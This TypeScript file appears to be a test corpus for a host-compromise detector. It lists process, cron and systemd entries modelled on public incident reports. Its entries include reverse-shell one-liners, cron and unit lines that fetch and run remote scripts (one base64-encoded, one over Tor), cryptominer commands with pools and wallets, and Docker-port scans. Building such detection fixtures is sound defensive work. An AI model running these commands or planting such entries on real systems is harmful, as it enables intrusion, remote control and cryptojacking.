import type { Process, Socket } from '@/lib/model';
import { cronLine } from '@/lib/rules/testing/cron';
import { hiddenProcess, running } from '@/lib/rules/testing/intruder-process';
import { unitWith } from '@/lib/rules/testing/persistence';
import { connected } from '@/lib/rules/testing/socket';
import { walletOf } from '@/lib/rules/testing/wallets';
import { type CorpusEntry, host } from '../entry';
import { base64 } from './payload';

const REPORTS = 'process tables in public incident reports';
const LEFT = 'what campaigns leave on a host, public reports';

const runs = (name: string, line: string, changes: Partial<Process> = {}, sockets: Socket[] = []): CorpusEntry =>
  host(name, REPORTS, { processes: [running(line.split(' '), changes)], sockets });
const hidden = (name: string, changes: Partial<Process>): CorpusEntry =>
  host(name, REPORTS, { processes: [hiddenProcess(changes)], sockets: [] });
const cron = (name: string, line: string): CorpusEntry => host(name, LEFT, { cronEntries: [cronLine(line)] });
const unit = (name: string, exec: string): CorpusEntry =>
  host(name, LEFT, { units: [unitWith({ name: `${name.split(' ')[0]}.service`, execLines: [`ExecStart=${exec}`] })] });

const inMemory = { exe: '/memfd:x', exeDeleted: true, exePathExists: false };
const deleted = { exeDeleted: true, exePathExists: false };

export const HOSTS: readonly CorpusEntry[] = [
  hidden('kworker with a command of its own', {}),
  hidden('kworker that is not busy', { cpuPct: 1, exe: '/usr/bin/kw', exeDeleted: false, exePathExists: true }),
  hidden('kdevtmpfsi', { comm: 'kdevtmpfsi', exe: '/tmp/kdevtmpfsi', exeDeleted: false, exePathExists: true }),
  hidden('rcu_sched', { comm: 'rcu_sched', exe: '/usr/lib/x' }),
  hidden('kswapd0 from a home', {
    comm: 'kswapd0',
    exe: '/root/.configrc5/a/kswapd0',
    exeDeleted: false,
    exePathExists: true,
  }),
  hidden('empty command line under load', { comm: 'java', exe: '/opt/java' }),
  hidden('migration', { comm: 'migration/0', exe: '/usr/local/bin/mig', cpuPct: 40 }),
  runs('brackets around a name', '[kthrotld]', { comm: 'kthrotld', exe: '/usr/share/kt', cpuPct: 90 }),
  runs('bioset', 'bioset', { comm: 'bioset', exe: '/usr/bin/bioset', cpuPct: 90 }),
  runs('[kcached] of Doki', '[kcached]', { comm: 'kcached', exe: '/var/tmp/kc' }),
  runs('perfctl', '/tmp/.perf.c/perfctl', deleted),
  runs('perfcc', '/root/.config/cron/perfcc'),
  runs('wizlmsh', '/bin/wizlmsh'),
  runs('sh as perfctl names it', 'sh', { comm: 'sh', exe: '/tmp/.perf.c/sh', ...deleted }),
  runs('kinsing', '/tmp/kinsing', {}, [connected('142.44.191.122:80', { pid: 5201 })]),
  runs('xmrig plain', '/usr/local/bin/xmrig -c /etc/xmrig.json', { cpuPct: 390 }),
  runs('xmrig renamed to nginx', '/usr/sbin/nginx -o 203.0.113.20:443 --donate-level 1 -u x --cpu-priority=3', {
    cpuPct: 390,
  }),
  runs('sshd with a wallet', `sshd -o 203.0.113.20:443 -u ${walletOf(41)} -k`, { exe: '/usr/sbin/sshd2', cpuPct: 100 }),
  runs('a process with a pool on 443 by name', '/usr/bin/httpd -o pool.supportxmr.com:443 -k', { cpuPct: 200 }, [
    connected('203.0.113.21:443', { pid: 5201, comm: 'httpd' }),
  ]),
  runs('pool by address', '/opt/w/agent', { ...deleted, exe: '/var/tmp/agent', cpuPct: 99 }, [
    connected('5.196.26.96:443', { pid: 5201 }),
  ]),
  runs('deleted in shared memory', '/dev/shm/.x/go', { ...deleted, cpuPct: 95 }),
  runs('deleted in tmp', '/tmp/a', deleted),
  runs('hidden directory below opt', '/opt/.sys/upd', { cpuPct: 80 }),
  runs('hidden in /usr/lib', '/usr/lib/.b/netd', { cpuPct: 20 }),
  runs('three dots', '/var/tmp/.../run', {}),
  runs('from memory', '/proc/self/fd/3', { ...inMemory, comm: 'sd-pam' }),
  runs('from memory, PyLoose', 'python3', { ...inMemory, exe: '/memfd:', comm: '3' }),
  runs('masscan', 'masscan -p2375 --rate 50000 203.0.113.0/24', {}),
  runs('zgrab', '/usr/bin/zgrab --port 2375 --endpoint /v1.24/info', {}),
  runs('pnscan', '/usr/local/bin/pnscan -R6f626a 203.0.113.0/16 2375', {}),
  runs('reverse shell of bash', 'bash -c bash -i >& /dev/tcp/203.0.113.22/443 0>&1', { exe: '/usr/bin/bash' }),
  runs(
    'python reverse shell',
    `python3 -c import socket,os,pty;s=socket.socket();s.connect(("203.0.113.22",443));os.dup2(s.fileno(),0);pty.spawn("sh")`,
    { exe: '/usr/bin/python3' },
  ),
  runs('netcat with a shell', 'nc 203.0.113.22 443 -e /bin/bash', { exe: '/usr/bin/nc.traditional' }),
  runs('stratum in an argument', '/usr/bin/dbus-daemon2 --url=stratum+tcp://203.0.113.23:3333', {}),
  runs('algorithm and pool', '/sbin/upstart2 -a rx/0 -o 203.0.113.24:80 -u x -p x', { cpuPct: 150 }),
  runs('cnrig', '/etc/cnrig', { cpuPct: 150 }),
  runs('t-rex under load', '/opt/t-rex -a kawpow', { cpuPct: 150 }),
  runs('ziggystartux', '/usr/bin/ziggystartux', {}),
  runs('tntrecht', '/usr/sbin/tntrecht', {}),
  cron('cron of Kinsing', '* * * * * wget -q -O - http://217.12.221.244/t.sh | sh > /dev/null 2>&1'),
  cron('cron with curl and bash', '*/3 * * * * curl -fsSL http://203.0.113.30/ash.php|bash'),
  cron('cron with base64', `@hourly echo ${base64('curl -s http://203.0.113.30/a|sh')} | base64 -d | bash`),
  cron('cron runs from tmp', '* * * * * /tmp/.X11-unix/01'),
  cron('cron runs from shared memory', '@reboot /dev/shm/.r/run >/dev/null 2>&1'),
  cron('cron of perfctl', '11 * * * * /root/.config/cron/perfcc'),
  cron('cron of dota', '*/30 * * * * /root/.configrc5/a/upd>/dev/null 2>&1'),
  cron(
    'cron with python',
    `*/10 * * * * python3 -c "import urllib.request as u;exec(u.urlopen('http://203.0.113.30/l').read())"`,
  ),
  cron(
    'cron to hidden service',
    `*/15 * * * * curl -x socks5h://127.0.0.1:9050 http://${'b3c4d5e6f7g2h3i4'.padEnd(56, 'r')}.onion/i | sh`,
  ),
  cron('cron with a wallet', `@daily /usr/bin/w -u ${walletOf(42)}`),
  unit('bot runs a file in tmp', '/tmp/.bot/kinsing'),
  unit('pwnrige fetches', '/bin/sh -c "curl -s http://203.0.113.31/p.sh | sh"'),
  unit('moneroocean_miner runs xmrig', '/root/moneroocean/xmrig --config=/root/moneroocean/config_background.json'),
  unit('c3pool_miner runs xmrig', '/root/c3pool/xmrig --config=/root/c3pool/config_background.json'),
  unit('sysd has miner options', '/usr/bin/sysd --donate-level=0 -o c3pool.org:443 -u x'),
];
